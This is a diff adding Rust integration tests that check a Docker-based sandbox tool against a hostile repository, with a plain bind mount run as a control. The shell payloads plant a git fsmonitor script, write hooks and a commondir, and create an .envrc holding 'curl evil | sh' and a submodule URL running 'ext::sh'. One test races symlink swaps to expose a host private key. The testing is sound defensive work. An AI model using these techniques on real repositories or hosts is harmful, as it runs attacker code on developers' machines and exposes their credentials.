@@ -1,0 +1,485 @@
+//! A hostile repository against the protected names and git metadata: each
+//! test runs the attack through `sandbox run` as an unprivileged invoking
+//! user, then checks the host, and runs the same attack as a control against
+//! what sandbox replaced (a plain `docker run -v`, or a path-based mount) to
+//! show the test can see the hole.
+
+use std::collections::BTreeMap;
+use std::os::unix::fs::{MetadataExt, PermissionsExt};
+use std::os::unix::process::CommandExt;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+
+use crate::common::{docker, docker_group, git_image, tempdir, Output, Workspace};
+
+/// The invoking user: not root, not 1000, in the docker group.
+const UID: u32 = 4242;
+
+fn gid() -> u32 {
+    docker_group()
+}
+
+/// Git on the host, as the workspace's owner would run it (root here, so
+/// ownership checks are turned off, as they pass for the owner).
+fn host_git(dir: &Path, args: &[&str]) -> Output {
+    Command::new("git")
+        .args(["-c", "safe.directory=*"])
+        .args(args)
+        .current_dir(dir)
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .env("HOME", dir)
+        .env("GIT_AUTHOR_NAME", "Host User")
+        .env("GIT_AUTHOR_EMAIL", "host@example.com")
+        .env("GIT_COMMITTER_NAME", "Host User")
+        .env("GIT_COMMITTER_EMAIL", "host@example.com")
+        .stdin(Stdio::null())
+        .output()
+        .expect("git runs on the host")
+        .into()
+}
+
+fn git_ok(dir: &Path, args: &[&str]) -> String {
+    let out = host_git(dir, args);
+    assert_eq!(out.status, 0, "git {args:?}: {out:?}");
+    out.stdout
+}
+
+/// A repository with one commit, owned by the invoking user.
+fn repository(dir: &Path) {
+    std::fs::create_dir_all(dir).unwrap();
+    git_ok(dir, &["init", "-q", "-b", "main"]);
+    std::fs::write(dir.join("README"), "hello\n").unwrap();
+    git_ok(dir, &["add", "README"]);
+    git_ok(dir, &["commit", "-qm", "first"]);
+}
+
+fn chown_tree(path: &Path) {
+    let status = Command::new("chown")
+        .args(["-R", &format!("{UID}:{}", gid())])
+        .arg(path)
+        .status()
+        .unwrap();
+    assert!(status.success());
+}
+
+/// Fails naming the paths that differ, not their contents.
+fn assert_same(
+    now: &BTreeMap<PathBuf, (u32, Vec<u8>)>,
+    before: &BTreeMap<PathBuf, (u32, Vec<u8>)>,
+    what: &str,
+) {
+    let keys: std::collections::BTreeSet<_> = now.keys().chain(before.keys()).collect();
+    let differ: Vec<_> = keys
+        .into_iter()
+        .filter(|k| now.get(*k) != before.get(*k))
+        .collect();
+    assert!(differ.is_empty(), "{what} changed: {differ:?}");
+}
+
+/// Every entry below `dir`: kind, mode and contents or link target.
+fn digest(dir: &Path) -> BTreeMap<PathBuf, (u32, Vec<u8>)> {
+    let mut all = BTreeMap::new();
+    let mut stack = vec![dir.to_path_buf()];
+    while let Some(path) = stack.pop() {
+        let meta = std::fs::symlink_metadata(&path).unwrap();
+        let contents = if meta.file_type().is_symlink() {
+            std::fs::read_link(&path)
+                .unwrap()
+                .into_os_string()
+                .into_encoded_bytes()
+        } else if meta.is_dir() {
+            for entry in std::fs::read_dir(&path).unwrap() {
+                stack.push(entry.unwrap().path());
+            }
+            Vec::new()
+        } else {
+            std::fs::read(&path).unwrap()
+        };
+        all.insert(
+            path.strip_prefix(dir).unwrap().to_path_buf(),
+            (meta.mode(), contents),
+        );
+    }
+    all
+}
+
+/// `script` run by sandbox in `dir` as the invoking user, with the host's
+/// path of the workspace in $W and a marker path in $MARK.
+fn hostile_run(ws: &Workspace, dir: &Path, script: &str, mark: &Path) -> Output {
+    let mut cmd = ws.command();
+    cmd.current_dir(dir)
+        .args([
+            "run",
+            "--image",
+            git_image(),
+            "--pull",
+            "never",
+            "--no-cache",
+        ])
+        .args(["-e", &format!("W={}", dir.display())])
+        .args(["-e", &format!("MARK={}", mark.display())])
+        .args(git_identity())
+        .args(["sh", "-c", script])
+        .uid(UID)
+        .gid(gid());
+    cmd.output().expect("run sandbox").into()
+}
+
+fn git_identity() -> Vec<String> {
+    [
+        "GIT_AUTHOR_NAME=Agent",
+        "GIT_AUTHOR_EMAIL=agent@example.com",
+        "GIT_COMMITTER_NAME=Agent",
+        "GIT_COMMITTER_EMAIL=agent@example.com",
+    ]
+    .iter()
+    .flat_map(|e| ["-e".to_string(), e.to_string()])
+    .collect()
+}
+
+/// The control: the same script in a plain `docker run -v DIR:/work`, as the
+/// same user, with the same seccomp-free defaults a hand-typed run has.
+fn plain_docker_run(dir: &Path, script: &str, mark: &Path) -> Output {
+    let volume = format!("{}:/work", dir.display());
+    let (w, m) = (
+        format!("W={}", dir.display()),
+        format!("MARK={}", mark.display()),
+    );
+    let user = format!("{UID}:{}", gid());
+    let mut args = vec![
+        "run", "--rm", "-v", &volume, "-w", "/work", "-u", &user, "-e", &w, "-e", &m,
+    ];
+    let identity = git_identity();
+    args.extend(identity.iter().map(String::as_str));
+    args.extend([git_image(), "sh", "-c", script]);
+    docker(&args)
+}
+
+/// What hostile code plants for the host's next `git status`: a script that
+/// touches $MARK, named as `core.fsmonitor` wherever git might read it.
+const PAYLOAD: &str = r#"
+printf '#!/bin/sh\ntouch "%s"\n' "$MARK" > pwn.sh; chmod +x pwn.sh
+cfg="[core]
+	fsmonitor = $W/pwn.sh
+"
+"#;
+
+fn marker() -> (tempfile::TempDir, PathBuf) {
+    let dir = tempdir();
+    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
+    let mark = dir.path().join("pwned");
+    (dir, mark)
+}
+
+/// Runs the host's `git status` in `dir`; true when the payload ran.
+fn host_status_runs_payload(dir: &Path, mark: &Path) -> bool {
+    let _ = std::fs::remove_file(mark);
+    host_git(dir, &["status", "--porcelain"]);
+    mark.exists()
+}
+
+/// Every way into the host repository's configuration: appending to it,
+/// hooks, a `commondir`, renaming `.git` away and making a new one, a
+/// submodule's config.
+const GIT_METADATA_ATTACKS: &str = r#"
+printf '%s' "$cfg" >> .git/config
+printf '#!/bin/sh\ntouch "%s"\n' "$MARK" > .git/hooks/post-checkout
+mkdir -p evil/objects evil/refs && printf '%s' "$cfg" > evil/config && echo "$W/evil" > .git/commondir
+mkdir -p .git/modules/x && printf '%s' "$cfg" > .git/modules/x/config
+mv .git .git-away && mkdir -p .git/objects .git/refs && printf '%s' "$cfg" > .git/config \
+  && echo 'ref: refs/heads/main' > .git/HEAD
+true
+"#;
+
+#[test]
+fn git_metadata_the_host_executes_cannot_be_changed() {
+    let ws = Workspace::new();
+    let repo = ws.path().join("repo");
+    repository(&repo);
+    chown_tree(ws.path());
+    let before = digest(&repo.join(".git"));
+    let (_keep, mark) = marker();
+    let script = format!("{PAYLOAD}{GIT_METADATA_ATTACKS}");
+    let out = hostile_run(&ws, &repo, &script, &mark);
+    assert_eq!(out.status, 0, "{out:?}");
+    assert_same(&digest(&repo.join(".git")), &before, "the host's .git");
+    assert!(
+        !host_status_runs_payload(&repo, &mark),
+        "the payload ran on the host"
+    );
+    assert!(!repo.join(".git-away").exists());
+
+    // Control: the same attack with the workspace simply mounted.
+    let out = plain_docker_run(&repo, &script, &mark);
+    assert_eq!(out.status, 0, "{out:?}");
+    assert!(
+        host_status_runs_payload(&repo, &mark),
+        "control: the attack should work against a plain bind mount"
+    );
+}
+
+#[test]
+fn no_repository_can_appear_where_there_was_none() {
+    // The workspace is a directory inside the user's repository: a `.git`
+    // made there would be the one the host's git uses in it.
+    let ws = Workspace::new();
+    let repo = ws.path().join("repo");
+    repository(&repo);
+    let sub = repo.join("sub");
+    std::fs::create_dir(&sub).unwrap();
+    chown_tree(ws.path());
+    let (_keep, mark) = marker();
+    let script = format!(
+        "{PAYLOAD}git init -q . ; git config core.fsmonitor \"$W/pwn.sh\"; \
+         mkdir -p .git/objects .git/refs; printf '%s' \"$cfg\" > .git/config; true"
+    );
+    let out = hostile_run(&ws, &sub, &script, &mark);
+    assert_eq!(out.status, 0, "{out:?}");
+    assert!(
+        !host_status_runs_payload(&sub, &mark),
+        "the payload ran on the host"
+    );
+    assert!(
+        !sub.join(".git").exists(),
+        "the stand-in is removed after the run"
+    );
+
+    let out = plain_docker_run(&sub, &script, &mark);
+    assert_eq!(out.status, 0, "{out:?}");
+    assert!(
+        host_status_runs_payload(&sub, &mark),
+        "control: a plain mount lets .git appear"
+    );
+}
+
+#[test]
+fn an_index_that_adds_a_submodule_does_not_come_back() {
+    let ws = Workspace::new();
+    let repo = ws.path().join("repo");
+    repository(&repo);
+    chown_tree(ws.path());
+    let index = std::fs::read(repo.join(".git/index")).unwrap();
+    let (_keep, mark) = marker();
+    // A repository below the workspace is the command's to make; a gitlink
+    // to it in the host's index would make the host's `git status` run it.
+    let script = format!(
+        "{PAYLOAD}mkdir sub && cd sub && git init -q && git config core.fsmonitor \"$W/pwn.sh\" \
+         && cd .. && git update-index --add --cacheinfo \
+         160000,0123456789abcdef0123456789abcdef01234567,sub"
+    );
+    let out = hostile_run(&ws, &repo, &script, &mark);
+    assert_eq!(out.status, 0, "{out:?}");
+    assert!(out.stderr.contains("submodules (sub)"), "{out:?}");
+    assert_eq!(std::fs::read(repo.join(".git/index")).unwrap(), index);
+    assert!(
+        !host_status_runs_payload(&repo, &mark),
+        "the payload ran on the host"
+    );
+
+    std::fs::remove_dir_all(repo.join("sub")).unwrap();
+    let out = plain_docker_run(&repo, &script, &mark);
+    assert_eq!(out.status, 0, "{out:?}");
+    assert!(
+        host_status_runs_payload(&repo, &mark),
+        "control: the gitlink makes git run it"
+    );
+}
+
+#[test]
+fn commits_branches_and_the_index_work_from_inside() {
+    let ws = Workspace::new();
+    let repo = ws.path().join("repo");
+    repository(&repo);
+    chown_tree(ws.path());
+    let (_keep, mark) = marker();
+    let script = "echo new > new.txt && git add new.txt && git commit -qm 'from inside' \
+                  && git checkout -q -b feature && echo more >> new.txt && git add new.txt \
+                  && git commit -qm 'on a branch' && git status --porcelain";
+    let out = hostile_run(&ws, &repo, script, &mark);
+    assert_eq!(out.status, 0, "{out:?}");
+    assert_eq!(
+        out.stdout, "",
+        "the placeholders are not untracked files inside"
+    );
+    assert_eq!(
+        git_ok(&repo, &["rev-parse", "--abbrev-ref", "HEAD"]),
+        "feature\n"
+    );
+    assert_eq!(
+        git_ok(&repo, &["log", "--format=%s|%an", "main"]),
+        "from inside|Agent\nfirst|Host User\n"
+    );
+    assert_eq!(
+        git_ok(&repo, &["status", "--porcelain"]),
+        "",
+        "the index came back"
+    );
+    assert!(!repo.join(".gitmodules").exists() && !repo.join(".envrc").exists());
+}
+
+#[test]
+fn a_linked_worktree_works_and_its_pointer_stays() {
+    let ws = Workspace::new();
+    let repo = ws.path().join("repo");
+    repository(&repo);
+    let linked = ws.path().join("linked");
+    git_ok(&repo, &["worktree", "add", "-q", linked.to_str().unwrap()]);
+    chown_tree(ws.path());
+    let pointer = std::fs::read(linked.join(".git")).unwrap();
+    let (_keep, mark) = marker();
+    let script = format!(
+        "{PAYLOAD}git status --porcelain && echo wt > wt.txt && git add wt.txt \
+         && git commit -qm 'in the worktree'; \
+         mkdir -p evil/objects evil/refs; printf '%s' \"$cfg\" > evil/config; \
+         echo 'ref: refs/heads/main' > evil/HEAD; echo \"gitdir: $W/evil\" > .git; true"
+    );
+    let out = hostile_run(&ws, &linked, &script, &mark);
+    assert_eq!(out.status, 0, "{out:?}");
+    assert_eq!(std::fs::read(linked.join(".git")).unwrap(), pointer);
+    assert_eq!(
+        git_ok(&linked, &["log", "-1", "--format=%s"]),
+        "in the worktree\n"
+    );
+    assert_eq!(
+        git_ok(&linked, &["status", "--porcelain"]),
+        "?? evil/\n?? pwn.sh\n"
+    );
+    assert!(
+        !host_status_runs_payload(&linked, &mark),
+        "the payload ran on the host"
+    );
+
+    let out = plain_docker_run(&linked, &script, &mark);
+    assert_eq!(out.status, 0, "{out:?}");
+    assert!(
+        host_status_runs_payload(&linked, &mark),
+        "control: the pointer can be rewritten"
+    );
+}
+
+/// What tools on the host act on: none of it can be written or made.
+const PROTECTED_NAME_ATTACKS: &str = r#"
+echo 'curl evil | sh' > .envrc
+mkdir -p .claude && echo '{"hooks":{}}' > .claude/settings.json
+echo '{"mcpServers":{}}' > .mcp.json
+echo 'setup: [evil]' > .sandbox.yml
+printf '[submodule "x"]\n\turl = ext::sh -c evil\n' > .gitmodules
+echo '{"tasks":[]}' > .vscode/tasks.json
+mv .vscode .vscode-away; mkdir -p .vscode; echo '{}' > .vscode/tasks.json
+mkdir -p .idea
+true
+"#;
+
+#[test]
+fn protected_names_cannot_be_made_or_changed() {
+    let ws = Workspace::new();
+    let dir = ws.path().join("project");
+    std::fs::create_dir_all(dir.join(".vscode")).unwrap();
+    std::fs::write(dir.join(".vscode/settings.json"), "{}\n").unwrap();
+    chown_tree(ws.path());
+    let before = digest(&dir);
+    let (_keep, mark) = marker();
+    let out = hostile_run(&ws, &dir, PROTECTED_NAME_ATTACKS, &mark);
+    assert_eq!(out.status, 0, "{out:?}");
+    assert_same(&digest(&dir), &before, "the workspace");
+
+    let out = plain_docker_run(&dir, PROTECTED_NAME_ATTACKS, &mark);
+    assert_eq!(out.status, 0, "{out:?}");
+    for name in [
+        ".envrc",
+        ".claude/settings.json",
+        ".mcp.json",
+        ".sandbox.yml",
+        ".gitmodules",
+        ".vscode-away",
+    ] {
+        assert!(
+            dir.join(name).exists(),
+            "control: {name} can be made with a plain mount"
+        );
+    }
+}
+
+/// The attack on mount sources: a command swaps `.git` for a directory of
+/// links to the host's files while the next container of the workspace is
+/// being made. Here it keeps trying for the whole time a second run starts.
+#[test]
+fn a_running_command_cannot_change_what_the_next_container_mounts() {
+    let ws = Workspace::new();
+    let repo = ws.path().join("repo");
+    repository(&repo);
+    let victim = tempdir();
+    std::fs::set_permissions(victim.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
+    std::fs::write(victim.path().join("id_rsa"), "PRIVATE KEY\n").unwrap();
+    std::fs::set_permissions(
+        victim.path().join("id_rsa"),
+        std::fs::Permissions::from_mode(0o644),
+    )
+    .unwrap();
+    chown_tree(ws.path());
+    let (_keep, mark) = marker();
+    let swap = format!(
+        "end=$(( $(date +%s) + 6 )); while [ $(date +%s) -lt $end ]; do \
+           mv .git .git-away 2>/dev/null; mkdir -p .git 2>/dev/null; \
+           ln -sfn {v} .git/hooks 2>/dev/null; ln -sfn {v} .git/objects 2>/dev/null; \
+           ln -sfn {v} .git/refs 2>/dev/null; ln -sf {v}/id_rsa .git/config 2>/dev/null; \
+           ln -sfn {v} .vscode 2>/dev/null; usleep 1000; \
+         done; true",
+        v = victim.path().display()
+    );
+    let mut attacker = ws.command();
+    attacker
+        .current_dir(&repo)
+        .args([
+            "run",
+            "--image",
+            git_image(),
+            "--pull",
+            "never",
+            "--no-cache",
+            "sh",
+            "-c",
+            &swap,
+        ])
+        .uid(UID)
+        .gid(gid())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null());
+    let attacker = attacker.spawn().unwrap();
+    std::thread::sleep(std::time::Duration::from_secs(2));
+    let look =
+        "cat .git/config .git/hooks/id_rsa .git/objects/id_rsa .vscode/id_rsa 2>/dev/null; true";
+    for _ in 0..3 {
+        let out = hostile_run(&ws, &repo, look, &mark);
+        assert_eq!(out.status, 0, "{out:?}");
+        assert!(
+            !out.stdout.contains("PRIVATE KEY"),
+            "a host file was mounted: {out:?}"
+        );
+    }
+    let out = attacker.wait_with_output().unwrap();
+    assert!(out.status.success());
+    assert!(!repo.join(".git-away").exists() && repo.join(".git/objects").is_dir());
+
+    // Control: against a plain bind mount the swap succeeds, and a mount by
+    // path (what sandbox did) then presents the victim's files.
+    let out = plain_docker_run(&repo, &swap.replace("+ 6", "+ 1"), &mark);
+    assert_eq!(out.status, 0, "{out:?}");
+    let hooks = format!(
+        "type=bind,src={}/.git/hooks,dst=/h,readonly",
+        repo.display()
+    );
+    let out = docker(&[
+        "run",
+        "--rm",
+        "--mount",
+        &hooks,
+        git_image(),
+        "cat",
+        "/h/id_rsa",
+    ]);
+    assert_eq!(
+        out.stdout, "PRIVATE KEY\n",
+        "control: a path-based mount follows the swap: {out:?}"
+    );
+}
